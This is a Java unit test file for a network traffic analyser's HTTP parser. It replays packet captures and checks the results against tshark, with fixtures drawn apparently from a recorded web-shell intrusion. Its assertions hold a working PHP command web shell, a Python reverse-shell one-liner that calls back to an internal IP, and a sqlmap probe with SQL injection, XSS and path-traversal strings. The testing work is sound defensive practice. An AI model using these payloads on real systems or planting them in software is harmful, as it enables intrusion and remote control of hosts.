package org.nta.app.http;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.nta.bytes.AnomalyCounter;
import org.nta.event.HttpFileObject;
import org.nta.event.HttpParam;
import org.nta.event.HttpRequest;
import org.nta.event.HttpResponse;
import org.nta.event.MultipartPart;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Real connections from the reference captures, replayed segment by segment: every request and response lands on
 * the frames tshark 4.0.17 shows (tshark-http.tsv: frame, first reassembled segment, method, uri, status,
 * request_in), and the web shell upload yields the exact file.
 */
class HttpCaptureFixtureTest {
    record Expected(String fixture, long frame, long firstFrame, String method, String uri, int status,
                    long requestIn) {
    }

    static List<Expected> expected(String fixture) throws IOException {
        List<Expected> out = new ArrayList<>();
        try (InputStream in = HttpCaptureFixtureTest.class.getResourceAsStream("/http/tshark-http.tsv")) {
            for (String line : new String(in.readAllBytes(), StandardCharsets.UTF_8).split("\n")) {
                if (line.startsWith("#") || line.isBlank()) continue;
                String[] f = line.split("\t", -1);
                if (!f[0].equals(fixture)) continue;
                long frame = Long.parseLong(f[1]);
                long first = f[2].isEmpty() ? frame : Long.parseLong(f[2]);
                out.add(new Expected(f[0], frame, first, f[3].isEmpty() ? null : f[3], f[4],
                        f[5].isEmpty() ? 0 : Integer.parseInt(f[5]), f[6].isEmpty() ? 0 : Long.parseLong(f[6])));
            }
        }
        return out;
    }

    static Recorder replay(Fixture fx, AnomalyCounter anomalies) {
        Recorder rec = new Recorder();
        fx.replay(new HttpConnectionParser(fx.conn(), HttpConfig.defaults(), rec, anomalies));
        return rec;
    }

    @ParameterizedTest
    @ValueSource(strings = {"ws-1735-upload", "ws-1737-cmd-id", "ws-1739-revshell", "ws-1028-gobuster",
            "ws-1100-sqlmap-probe", "ws-1103-sqlmap-error", "ws-1095-firefox", "benign-12-login",
            "benign-13-avatar-upload", "benign-14-jpeg-download", "benign-16-curl-head"})
    void framesMatchTshark(String name) throws IOException {
        int stream = Integer.parseInt(name.split("-")[1]);
        Fixture fx = Fixture.load(name, stream);
        AnomalyCounter anomalies = new AnomalyCounter();
        Recorder rec = replay(fx, anomalies);
        List<Expected> exp = expected(name);
        List<Expected> reqs = exp.stream().filter(e -> e.method() != null).toList();
        List<Expected> resps = exp.stream().filter(e -> e.method() == null).toList();
        assertThat(reqs).isNotEmpty();
        assertThat(rec.requests).hasSameSizeAs(reqs);
        assertThat(rec.responses).hasSameSizeAs(resps);
        for (int i = 0; i < reqs.size(); i++) {
            HttpRequest r = rec.requests.get(i);
            Expected e = reqs.get(i);
            assertThat(r.frame()).as("request %d frame", i).isEqualTo(e.frame());
            assertThat(r.firstFrame()).as("request %d first frame", i).isEqualTo(e.firstFrame());
            assertThat(r.method()).isEqualTo(e.method());
            assertThat(r.uri()).isEqualTo(e.uri());
            assertThat(r.conn().stream()).isEqualTo(stream);
            assertThat(r.incomplete()).isFalse();
        }
        for (int i = 0; i < resps.size(); i++) {
            HttpResponse r = rec.responses.get(i);
            Expected e = resps.get(i);
            assertThat(r.frame()).as("response %d frame", i).isEqualTo(e.frame());
            assertThat(r.firstFrame()).as("response %d first frame", i).isEqualTo(e.firstFrame());
            assertThat(r.status()).isEqualTo(e.status());
            assertThat(r.requestFrame()).as("response %d request_in", i).isEqualTo(e.requestIn());
            assertThat(r.incomplete()).isFalse();
        }
        assertThat(rec.transactions).hasSize(reqs.size());
        assertThat(rec.transactions).allSatisfy(t -> {
            assertThat(t.request()).isNotNull();
            assertThat(t.response()).isNotNull();
            assertThat(t.response().requestFrame()).isEqualTo(t.request().frame());
        });
        assertThat(anomalies.asMap()).isEmpty();
    }

    @Test
    void webShellUploadYieldsTheExactFile() {
        Recorder rec = replay(Fixture.load("ws-1735-upload", 1735), new AnomalyCounter());
        HttpRequest r = rec.requests.get(0);
        assertThat(r.method()).isEqualTo("POST");
        assertThat(r.path()).isEqualTo("/upload.php");
        assertThat(r.referer()).isEqualTo("http://10.251.96.5/editprofile.php");
        assertThat(r.userAgent()).contains("Firefox/115.0");
        assertThat(r.host()).isEqualTo("10.251.96.5");
        assertThat(r.body().length()).isEqualTo(376);
        assertThat(r.parts()).hasSize(2);
        MultipartPart part = r.parts().get(0);
        MultipartPart submit = r.parts().get(1);
        assertThat(submit.name()).isEqualTo("submit");
        assertThat(submit.filename()).isNull();
        assertThat(new String(submit.bytes(), StandardCharsets.UTF_8)).isEqualTo("Upload");
        assertThat(part.name()).isEqualTo("fileToUpload");
        assertThat(part.filename()).isEqualTo("dbfunctions.php");
        assertThat(part.contentType()).isEqualTo("application/octet-stream");
        assertThat(new String(part.bytes(), StandardCharsets.ISO_8859_1))
                .isEqualTo("<?php\nif (isset($_GET[\"cmd\"])) { system($_GET[\"cmd\"]); }\n?>\n");
        assertThat(part.size()).isEqualTo(60);
        assertThat(part.sha256()).isEqualTo("7f132cd3059416d61807d2cf4dfdda86ef73d092213eb0f3a3dcb3d1fce9868b");

        List<HttpFileObject> uploads = rec.files.stream()
                .filter(f -> f.direction() == HttpFileObject.Direction.UPLOAD).toList();
        assertThat(uploads).hasSize(1);
        HttpFileObject f = uploads.get(0);
        assertThat(f.frame()).isEqualTo(19412);
        assertThat(f.firstFrame()).isEqualTo(19410);
        assertThat(f.conn().stream()).isEqualTo(1735);
        assertThat(f.originalName()).isEqualTo("dbfunctions.php");
        assertThat(f.size()).isEqualTo(60);
        assertThat(f.sha256()).isEqualTo(part.sha256());
        assertThat(f.bytes()).isEqualTo(part.bytes());
        assertThat(f.mimeType()).isEqualTo("application/x-httpd-php");
        assertThat(f.declaredType()).isEqualTo("application/octet-stream");
        assertThat(f.source()).isEqualTo(HttpFileObject.Source.MULTIPART_PART);
        assertThat(f.partIndex()).isZero();
    }

    @Test
    void webShellCommandsAreDecoded() {
        Recorder rec = replay(Fixture.load("ws-1737-cmd-id", 1737), new AnomalyCounter());
        assertThat(rec.requests.get(0).queryParams()).containsExactly(new HttpParam("cmd", "id"));
        assertThat(rec.responses.get(0).body().text()).contains("uid=33(www-data)");

        Recorder rev = replay(Fixture.load("ws-1739-revshell", 1739), new AnomalyCounter());
        HttpRequest r = rev.requests.get(0);
        assertThat(r.queryParams()).hasSize(1);
        assertThat(r.queryParams().get(0).value()).startsWith("python3 -c 'import socket,subprocess,os;")
                .contains("s.connect((\"10.251.96.4\",4422))").endsWith("subprocess.call([\"/bin/sh\",\"-i\"])'");
        assertThat(r.uriDecoded()).startsWith("/uploads/dbfunctions.php?cmd=python3 -c 'import socket");
        assertThat(r.path()).isEqualTo("/uploads/dbfunctions.php");
    }

    @Test
    void sqlmapFormsAndProbe() {
        Recorder rec = replay(Fixture.load("ws-1103-sqlmap-error", 1103), new AnomalyCounter());
        HttpRequest r = rec.requests.get(0);
        assertThat(r.userAgent()).startsWith("sqlmap/1.7.2");
        assertThat(r.formParams()).extracting(HttpParam::name).containsExactly("username", "password");
        assertThat(rec.responses.get(0).body().text()).contains("root");
        assertThat(rec.files).extracting(HttpFileObject::direction) // the form as sent, and the page answered
                .containsExactly(HttpFileObject.Direction.UPLOAD, HttpFileObject.Direction.DOWNLOAD);

        Recorder probe = replay(Fixture.load("ws-1100-sqlmap-probe", 1100), new AnomalyCounter());
        HttpRequest p = probe.requests.get(0);
        assertThat(p.queryParams().get(0).name()).isEqualTo("wdxj");
        assertThat(p.queryParams().get(0).value()).contains("UNION ALL SELECT").contains("<script>alert(\"XSS\")</script>")
                .contains("../../../etc/passwd");
    }

    @Test
    void avatarUploadAndJpegDownloadAreFiles() {
        Recorder up = replay(Fixture.load("benign-13-avatar-upload", 13), new AnomalyCounter());
        HttpFileObject f = up.files.stream().filter(x -> x.direction() == HttpFileObject.Direction.UPLOAD)
                .findFirst().orElseThrow();
        assertThat(f.mimeType()).isEqualTo("image/jpeg");

        Recorder down = replay(Fixture.load("benign-14-jpeg-download", 14), new AnomalyCounter());
        assertThat(down.files).hasSize(1);
        HttpFileObject d = down.files.get(0);
        assertThat(d.originalName()).isEqualTo("me.jpg");
        assertThat(d.size()).isEqualTo(20011);
        assertThat(d.mimeType()).isEqualTo("image/jpeg");
        assertThat(d.declaredType()).isEqualTo("image/jpeg");
        assertThat(d.sha256()).isEqualTo(HttpEventFactory.sha256(d.bytes(), 0, d.keptLength()));
        // the same picture went up and came down
        assertThat(d.sha256()).isEqualTo(f.sha256());
    }

    @Test
    void curlHeadHasNoBody() {
        Recorder rec = replay(Fixture.load("benign-16-curl-head", 16), new AnomalyCounter());
        assertThat(rec.requests.get(0).userAgent()).isEqualTo("curl/7.88.1");
        HttpResponse r = rec.responses.get(0);
        assertThat(r.body().isEmpty()).isTrue();
        assertThat(r.contentType()).isEqualTo("text/html; charset=UTF-8");
        assertThat(r.requestMethod()).isEqualTo("HEAD");
        assertThat(rec.files).isEmpty();
    }
}
